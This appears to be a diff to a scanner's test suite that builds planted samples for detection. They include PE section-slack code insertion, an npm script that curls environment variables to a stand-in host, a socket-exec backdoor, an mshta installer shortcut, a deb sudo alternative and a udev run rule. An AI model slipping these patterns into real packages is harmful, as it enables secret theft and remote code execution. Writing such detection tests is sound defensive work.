@@ -99,6 +99,17 @@ def pe_cave(data):
     return bytes(data)
 
 
+def pe_behind(data):
+    """Code in the unused end of the code section, which is said to be a part of it then."""
+    data = bytearray(data)
+    _, size, _, raw, offset, at = next(section for section in pe_sections(data) if section[0] == b".text")
+    code = (MARKER * 3)[: min(96, raw - size)]
+    assert len(code) >= 60, "no room"
+    data[offset + size : offset + size + len(code)] = code
+    struct.pack_into("<I", data, at + 8, size + len(code))
+    return bytes(data)
+
+
 def pe_code(data):
     data = bytearray(data)
     _, size, _, _, offset, _ = next(section for section in pe_sections(data) if section[0] == b".text")
@@ -974,8 +985,15 @@ on_numpy("wheel, object that starts a program when it is made", "linux", later("
 on_numpy("wheel, library of its own that a module loads", "linux", later("import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), '_warm.so'))"), {"numpy/_warm.so": open("/bin/true", "rb").read()}, member="numpy/version.py")
 on_numpy("wheel, function that runs what a socket brings", "linux", later("def _check(s):\n    exec(s.recv(65536).decode(), {})"), member="numpy/version.py")
 on_numpy("Mach-O, initialiser outside of the code", "macos", macho_initial)
+on_numpy("PE, code behind the last function", "windows", pe_behind)
 on_npm("npm, script of a shell that sends what it finds", "bin/extra", None, {"package/bin/extra": b'#!/bin/bash\n[ -n "$CI" ] && curl -s -d "$(env)" https://collect.countersign-harmless.com/v2\n'})
 on_npm("npm, environment for a host in pieces", "lib/main.js", later("function refresh() { require('ht' + 'tps').get({ host: ['rates', 'countersign-harmless', 'com'].join('.'), path: '/' + JSON.stringify(process.env) }) }"))
+
+
+# The eighth: installers and images.
+on_msi("MSI, shortcut to an interpreter", "Shortcut", action='<DirectoryRef Id="INSTALLDIR"><Component Id="Link" Guid="ABCDDCBA-83F1-4F22-985B-FDB3C8ABD480"><Shortcut Id="Start" Name="Start" Directory="INSTALLDIR" Target="C:\\Windows\\System32\\mshta.exe" Arguments="https://countersign-harmless.invalid/"/><RegistryValue Root="HKCU" Key="Software\\Harmless" Name="x" Type="integer" Value="1" KeyPath="yes"/></Component></DirectoryRef>')
+on_deb("deb, alternative of a usual program", "postinst", lambda folder: script(folder, "update-alternatives --install /usr/local/bin/sudo sudo /usr/lib/tool/sudo 90"))
+on_deb("deb, rule of devices that runs a program", "udev", lambda folder: put(folder, "lib/udev/rules.d/60-x.rules", 'ACTION=="add", RUN+="/usr/lib/tool/x"\n'))
 
 
 archive_in_archive()
